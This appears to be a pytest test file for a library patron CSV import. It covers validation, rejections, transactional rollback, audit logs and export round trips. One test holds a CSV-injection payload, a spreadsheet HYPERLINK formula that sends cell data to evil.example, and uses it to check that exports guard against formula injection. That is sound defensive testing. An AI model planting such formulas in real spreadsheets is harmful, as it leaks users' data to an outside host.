"""Patron import: dry run, apply, update by email, rejections, one transaction, audit."""

from __future__ import annotations

import json

import pytest
from sqlalchemy import func, select, text

from app.errors import ValidationError
from app.transfer import apply_import, plan_import, read_patron_csv
from db.models import AuditLog, User
from db.session import unit_of_work

MESSY = (
    "\ufeffFirst Name;Surname;E-mail;Mobile\r\n"
    "José;Müller;Jose.Muller@Example.org;+41 79 123 45 67\r\n"
    "\r\n"
    "Zoë;Ødegård;zoe@example.org;\r\n"
    "Jos;Dup;JOSE.MULLER@example.org;\r\n"  # same email as row 2, other case
    "Bad;Email;not-an-email;\r\n"
    ";NoFirst;nofirst@example.org;\r\n"
    "Ctl;Char\x07s;ctl@example.org;\r\n"
    f"{'L' * 101};Long;long@example.org;\r\n"
    "Ann;Phone;ann@example.org;call me\r\n"
    "Existing;Person;OLD@example.org;\r\n"
).encode()


def _basic(counts: dict) -> dict:
    return {k: counts[k] for k in ("new", "updated", "unchanged", "rejected")}


def _count(session, model=User):
    return session.scalar(select(func.count()).select_from(model))


@pytest.fixture
def existing(sessions):
    with unit_of_work(sessions) as session:
        session.add(
            User(email="old@example.org", first_name="Old", last_name="Name", phone="+1 555 0100")
        )


def test_dry_run_reports_and_writes_nothing(sessions, existing):
    file = read_patron_csv(MESSY, name="members.csv")
    with unit_of_work(sessions, write=False) as session:
        plan = plan_import(session, file)
    # Issue 15: a bad email or phone costs the person nothing but that cell (a warning); the
    # same email under another name is a household (a placeholder and a contact).
    assert _basic(plan.counts) == {"new": 5, "updated": 1, "unchanged": 0, "rejected": 3}
    assert (plan.counts["needs_name"], plan.counts["no_email"], plan.counts["households"]) == (
        1,
        2,
        1,
    )
    reasons = {r.line: r.reason for r in plan.rejected}
    assert reasons == {
        7: "needs a first/last name",
        8: "last name contains control characters",
        9: "first name is longer than 100 characters",
    }
    warnings = {w.line: w.message for w in plan.warnings}
    assert warnings == {
        6: "bad email 'not-an-email'; dropped",
        10: "bad phone 'call me': Phone may contain only digits, spaces and + ( ) - ; dropped",
    }
    with sessions() as session:
        assert _count(session) == 1
        assert _count(session, AuditLog) == 0


def test_apply_writes_valid_rows_updates_by_email_and_logs(sessions, existing):
    file = read_patron_csv(MESSY, name="members.csv")
    with unit_of_work(sessions) as session:
        result = apply_import(session, file, station="office", method="admin")
    assert (result.inserted, result.updated) == (5, 1)
    with sessions() as session:
        users = {u.email: u for u in session.scalars(select(User))}
        assert {e for e in users if not e.endswith(".invalid")} == {
            "jose.muller@example.org",
            "zoe@example.org",
            "ann@example.org",
            "old@example.org",
        }
        assert (
            users["jose.muller@example.org"].first_name,
            users["zoe@example.org"].last_name,
        ) == (
            "José",
            "Ødegård",
        )
        old = users["old@example.org"]
        assert (old.first_name, old.last_name, old.phone) == ("Existing", "Person", "+1 555 0100")
        assert old.updated_at > old.created_at
        (log,) = session.scalars(select(AuditLog)).all()
        assert (log.method, log.action, log.station, log.outcome) == (
            "admin",
            "import_patrons",
            "office",
            "applied",
        )
        detail = json.loads(log.detail)
        assert (detail["new"], detail["updated"], detail["rejected"]) == (5, 1, 3)
        assert detail["file"] == "members.csv"


def test_second_run_is_unchanged(sessions):
    file = read_patron_csv(b"first,last,email\nAnn,Lee,ann@x.org\n")
    for _ in range(2):
        with unit_of_work(sessions) as session:
            result = apply_import(session, file, station="s")
    assert _basic(result.plan.counts) == {"new": 0, "updated": 0, "unchanged": 1, "rejected": 0}
    with sessions() as session:
        assert _count(session) == 1


def test_phone_cell_replaces_phone(sessions, existing):
    file = read_patron_csv(b"first,last,email,phone\nOld,Name,old@example.org,+44 20 1234\n")
    with unit_of_work(sessions) as session:
        apply_import(session, file, station="s")
    with sessions() as session:
        assert session.scalar(select(User.phone)) == "+44 20 1234"


def test_strict_refuses_everything(sessions):
    file = read_patron_csv(b"first,last,email\nAnn,Lee,ann@x.org\nBob,,bob@x.org\n")
    with pytest.raises(ValidationError, match="strict"), unit_of_work(sessions) as session:
        apply_import(session, file, station="s", strict=True)
    with sessions() as session:
        assert _count(session) == 0


def test_missing_required_column_is_refused(sessions):
    file = read_patron_csv(b"email,phone\nann@x.org,555 123 4567\n")
    with pytest.raises(ValidationError, match="holds names"), sessions() as session:
        plan_import(session, file)


def test_database_error_mid_import_writes_nothing(sessions, engine, backend):
    """Batches of 2; the 5th new row trips a trigger: the first batches are rolled back too."""
    with engine.begin() as connection:
        if backend == "sqlite":
            connection.execute(
                text(
                    "CREATE TRIGGER boom BEFORE INSERT ON users WHEN NEW.\"firstName\" = 'Boom' "
                    "BEGIN SELECT RAISE(ABORT, 'boom'); END"
                )
            )
        else:
            connection.execute(
                text(
                    "CREATE FUNCTION boom() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
                    "IF NEW.\"firstName\" = 'Boom' THEN RAISE EXCEPTION 'boom'; END IF; "
                    "RETURN NEW; END $$"
                )
            )
            connection.execute(
                text(
                    "CREATE TRIGGER boom BEFORE INSERT ON users FOR EACH ROW EXECUTE FUNCTION boom()"
                )
            )
    lines = [f"P{i},Q,p{i}@x.org" for i in range(4)] + [
        "Boom,Q,zz.boom@x.org"
    ]  # sorts last: writes go in email order
    file = read_patron_csv(("first,last,email\n" + "\n".join(lines)).encode())
    progress = []
    with pytest.raises(Exception, match="boom"), unit_of_work(sessions) as session:
        apply_import(
            session, file, station="s", batch_size=2, progress=lambda d, t: progress.append(d)
        )
    # Two batches went in before the error. PostgreSQL takes all new rows in one COPY and
    # reports the trigger's error as the COPY ends, after the last batch was sent.
    assert progress == ([2, 4] if backend == "sqlite" else [2, 4, 5])
    with sessions() as session:
        assert _count(session) == 0
        assert _count(session, AuditLog) == 0


def test_progress_counts_to_total(sessions, existing):
    file = read_patron_csv(MESSY)
    seen = []
    with unit_of_work(sessions) as session:
        apply_import(
            session, file, station="s", batch_size=1, progress=lambda d, t: seen.append((d, t))
        )
    assert seen == [(i, 6) for i in range(1, 7)]


def test_imported_patrons_are_searchable_and_indexed(sessions):
    from app.search import search_patrons
    from db.search_index import patron_search_stale

    file = read_patron_csv("first,last,email,phone\nZoë,Ødegård,zoe@x.org,+47 555 1234\n".encode())
    with unit_of_work(sessions) as session:
        apply_import(session, file, station="s")
    with sessions() as session:
        assert session.scalar(select(func.count()).select_from(patron_search_stale)) == 0
        for query in ("Ødegård", "odegard", "zoe", "zoe@x.org"):
            hits = search_patrons(session, query)
            assert [h.last_name for h in hits] == ["Ødegård"], query


def test_times_are_stored_like_orm_written_ones(sessions, backend, existing):
    file = read_patron_csv(b"first,last,email\nAnn,Lee,ann@x.org\nOld,New,old@example.org\n")
    with unit_of_work(sessions) as session:
        apply_import(session, file, station="s")
    with sessions() as session:
        if backend == "sqlite":
            raw = session.execute(text('SELECT "createdAt", "updatedAt" FROM users')).all()
            assert all("T" not in value and "+" not in value for row in raw for value in row)
        users = session.scalars(select(User).order_by(User.created_at)).all()
        assert all(u.updated_at.tzinfo is not None for u in users)
        assert [u.email for u in users] == ["old@example.org", "ann@x.org"]


def test_exported_users_reimport_as_unchanged(sessions, existing):
    """The export's CSV (with Excel's BOM) is a valid member list for the import."""
    import io

    from app.transfer import export_statement, table_statement

    file = read_patron_csv(MESSY)
    with unit_of_work(sessions) as session:
        apply_import(session, file, station="s")
    out = io.StringIO()
    with sessions() as session:
        export_statement(session, table_statement("users"), out, "csv", bom=True)
    again = read_patron_csv(out.getvalue().encode("utf-8"))
    assert again.encoding == "UTF-8 (with BOM)"
    with sessions() as session:
        plan = plan_import(session, again)
    assert _basic(plan.counts) == {"new": 0, "updated": 0, "unchanged": 6, "rejected": 0}


def test_phone_slash_becomes_space(sessions):
    file = read_patron_csv(b"first,last,email,phone\nAnn,Lee,ann@x.org,0151/3970856\n")
    with unit_of_work(sessions) as session:
        apply_import(session, file, station="s")
    with sessions() as session:
        assert session.scalar(select(User.phone)) == "0151 3970856"


def test_formula_like_names_round_trip_through_a_guarded_export(sessions):
    """The export quotes "=..." and "@..." text against CSV injection; the import takes that
    quote off again, so the exported list re-imports unchanged."""
    import csv
    import io

    from app.transfer import export_statement, table_statement

    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    members = io.StringIO()
    writer = csv.writer(members)
    writer.writerows(
        [
            ["first", "last", "email", "phone"],
            [formula, "@Home", "f@x.org", "+41 79 123 45 67"],
            ["'t", "-Dash", "t@x.org", ""],
        ]
    )
    with unit_of_work(sessions) as session:
        apply_import(session, read_patron_csv(members.getvalue().encode()), station="s")
    out = io.StringIO()
    with sessions() as session:
        export_statement(session, table_statement("users"), out, "csv")
    exported = out.getvalue()
    assert f'"\'{formula.replace(chr(34), chr(34) * 2)}"' in exported
    assert ",'@Home," in exported and ",'-Dash," in exported
    again = read_patron_csv(exported.encode())
    assert {r.values["firstName"] for r in again.rows} == {formula, "'t"}
    with sessions() as session:
        plan = plan_import(session, again)
        names = {(u.first_name, u.last_name, u.phone) for u in session.scalars(select(User))}
    assert _basic(plan.counts) == {"new": 0, "updated": 0, "unchanged": 2, "rejected": 0}
    assert names == {(formula, "@Home", "+41 79 123 45 67"), ("'t", "-Dash", None)}


def test_number_like_text_is_guarded_on_export_and_restored_on_import(sessions):
    """A phone "+1234567890" and names like "-x" or "-5" are text a spreadsheet would evaluate:
    the export quotes them, the import takes the quote off, nothing changes on the way."""
    import csv
    import io

    from app.transfer import export_statement, table_statement

    source = "first,last,email,phone\n-x,-5,p@x.org,+1234567890\n+Plus,Ng,n@x.org,\n"
    with unit_of_work(sessions) as session:
        apply_import(session, read_patron_csv(source.encode()), station="s")
    out = io.StringIO()
    with sessions() as session:
        export_statement(session, table_statement("users"), out, "csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    cells = {(r["firstName"], r["lastName"], r["phone"]) for r in rows}
    assert cells == {("'-x", "'-5", "'+1234567890"), ("'+Plus", "Ng", "")}
    again = read_patron_csv(out.getvalue().encode())
    with sessions() as session:
        plan = plan_import(session, again)
        stored = {(u.first_name, u.last_name, u.phone) for u in session.scalars(select(User))}
    assert _basic(plan.counts) == {"new": 0, "updated": 0, "unchanged": 2, "rejected": 0}
    assert stored == {("-x", "-5", "+1234567890"), ("+Plus", "Ng", None)}
